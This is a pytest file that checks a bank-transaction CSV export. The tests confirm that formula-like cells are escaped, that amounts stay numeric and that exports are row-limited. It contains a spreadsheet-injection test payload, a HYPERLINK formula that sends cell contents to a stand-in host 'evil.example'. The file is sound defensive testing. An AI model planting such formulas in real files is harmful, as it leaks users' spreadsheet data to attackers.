"""The bank transactions CSV export: formula-like text neutralised, numbers kept numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest

from devstack.factories.financial import create_bank_account, import_statement
from financial_subgraph.bank import export
from financial_subgraph.bank.export import HEADER, transactions_csv
from financial_subgraph.bank.models import BankTransaction

from ..conftest import GraphQL

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
EXPORT = """query($accountId: ID, $from: Date, $to: Date) {
  bankTransactionsCsv(accountId: $accountId, from: $from, to: $to) { content rows truncated } }"""
LAYOUT = {
    "dateColumn": "Date",
    "descriptionColumn": "Text",
    "counterpartyColumn": "Payee",
    "amountColumn": "Amount",
}


def transaction(day: int, amount: str, description: str, **fields: Any) -> BankTransaction:
    return BankTransaction(
        booked_on=date(2026, 3, day),
        amount=Decimal(amount),
        currency="EUR",
        description=description,
        **fields,
    )


def parsed(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


def test_text_cells_are_neutralised_and_amounts_stay_numbers() -> None:
    rows = [
        transaction(3, "-12.50", "-12.50 fee", counterparty="@evil", external_id="+491"),
        transaction(2, "100.00", HYPERLINK, counterparty="Acme"),
    ]
    result = transactions_csv(rows)
    assert (result.rows, result.truncated) == (2, False)
    header, first, second = parsed(result.content)
    assert header == list(HEADER)
    assert first == ["2026-03-02", "", "100.00", "EUR", "'" + HYPERLINK, "Acme", "", ""]
    assert second == ["2026-03-03", "", "-12.50", "EUR", "'-12.50 fee", "'@evil", "", "'+491"]


def test_an_export_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MAX_EXPORT_ROWS", 2)
    rows = [transaction(day, "1.00", f"row {day}") for day in (5, 4, 3)]
    result = transactions_csv(rows)
    assert (result.rows, result.truncated) == (2, True)
    assert [line[4] for line in parsed(result.content)[1:]] == ["row 4", "row 5"]


async def test_the_export_query_neutralises_imported_formulas(gql: GraphQL, member: str) -> None:
    account = await create_bank_account(gql, member)
    quoted = HYPERLINK.replace('"', '""')
    content = (
        f'Date,Text,Payee,Amount\n2026-03-02,"{quoted}",Shop,-1.00\n2026-03-03,Tea,Cafe,-3.20\n'
    )
    imported = await import_statement(gql, member, account["id"], "CSV", content, csvMapping=LAYOUT)
    assert imported["__typename"] == "ImportBankStatementPayload", imported
    body = await gql(EXPORT, bearer=member, accountId=account["id"])
    assert "errors" not in body, body
    exported = body["data"]["bankTransactionsCsv"]
    assert (exported["rows"], exported["truncated"]) == (2, False)
    lines = parsed(exported["content"])
    assert [line[2] for line in lines[1:]] == ["-1.00", "-3.20"]
    assert lines[1][4] == "'" + HYPERLINK
    empty = await gql(EXPORT, bearer=member, accountId=account["id"], **{"from": "2026-04-01"})
    assert empty["data"]["bankTransactionsCsv"]["rows"] == 0
